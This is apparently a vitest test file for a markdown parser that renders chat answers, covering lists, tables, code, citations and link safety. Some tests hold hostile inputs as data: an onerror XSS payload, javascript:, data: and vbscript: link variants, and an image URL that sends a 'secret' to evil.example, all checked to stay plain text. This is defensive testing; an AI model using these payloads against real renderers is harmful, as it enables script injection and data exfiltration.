import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseBlocks } from './blocks.ts';
import { parseInline, type Inline } from './inline.ts';

const plain = (text: string): Inline => ({ kind: 'text', text });

describe('the blocks of an answer', () => {
  it('WID-4: reads headings, paragraphs and rules', () => {
    expect(parseBlocks('## Fees\n\nNone.\n\n---').map((block) => block.kind)).toEqual(['heading', 'paragraph', 'rule']);
  });

  it('WID-4: nests lists and keeps the number that a list starts with', () => {
    const [list] = parseBlocks('3. one\n   - inner\n4. two');
    expect(list).toMatchObject({
      kind: 'list',
      ordered: true,
      start: 3,
      items: [[{}, { kind: 'list', ordered: false }], [{}]],
    });
  });

  it('WID-4: reads a table with its alignment and fills short rows', () => {
    const [table] = parseBlocks('| a | b |\n|---|--:|\n| 1 |');
    expect(table).toMatchObject({ kind: 'table', align: ['start', 'end'], rows: [[[plain('1')], []]] });
  });

  it('WID-4: keeps code as it is, also while its fence is still open', () => {
    expect(parseBlocks('```js\n**x**\n<b>')).toEqual([{ kind: 'code', language: 'js', text: '**x**\n<b>' }]);
  });

  it('WID-4: takes HTML as text', () => {
    expect(parseBlocks('<img src=x onerror=alert(1)>')).toEqual([
      { kind: 'paragraph', children: [plain('<img src=x onerror=alert(1)>')] },
    ]);
  });

  it('WID-4: reads any text to its end, with bounded depth', () => {
    fc.assert(
      fc.property(
        fc.string({
          unit: fc.constantFrom('>', '-', ' ', '\n', '*', '`', '|', '[', '](', 'a', '#', '~'),
          maxLength: 200,
        }),
        (text) => {
          expect(Array.isArray(parseBlocks(text))).toBe(true);
        },
      ),
    );
    expect(parseBlocks('> '.repeat(500)).length).toBeGreaterThan(0);
    expect(parseInline('*a '.repeat(2_000)).length).toBeGreaterThan(0);
  });
});

describe('the pieces of a line', () => {
  it('WID-4: reads strong, emphasis, code and struck text', () => {
    expect(parseInline('**a** *b* `c` ~~d~~').map((token) => token.kind)).toEqual([
      'strong',
      'text',
      'em',
      'text',
      'code',
      'text',
      'del',
    ]);
  });

  it('WID-4: leaves names with underscores alone', () => {
    expect(parseInline('credit_card_95')).toEqual([plain('credit_card_95')]);
  });

  it('WID-5: reads a marker as the number of a source, but not in code', () => {
    expect(parseInline('Yes [1] `[2]`').filter((token) => token.kind === 'cite')).toEqual([
      { kind: 'cite', number: 1 },
    ]);
  });

  it('WID-4: links to http, https and mailto', () => {
    expect(parseInline('[a](https://shop.example/x)')).toEqual([
      { kind: 'link', href: 'https://shop.example/x', children: [plain('a')] },
    ]);
    expect(parseInline('see https://shop.example/x.').at(1)).toMatchObject({
      kind: 'link',
      href: 'https://shop.example/x',
    });
  });

  it('T-33: makes no image of an image: its description stays as text', () => {
    expect(parseInline('![cat](https://evil.example/?q=secret)')).toEqual([plain('cat')]);
  });
});

describe('attacks by links', () => {
  it.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java\tscript:alert(1)',
    '\u0001javascript:alert(1)',
    'data:text/html,x',
    'vbscript:x',
    '//evil.example',
    'https:\\\\evil.example',
    'blob:https://shop.example/1',
  ])('WID-4: makes plain text of a link to %j', (address) => {
    const found = JSON.stringify(parseInline(`[click](${address})`));
    expect(found).not.toContain('"link"');
  });
});
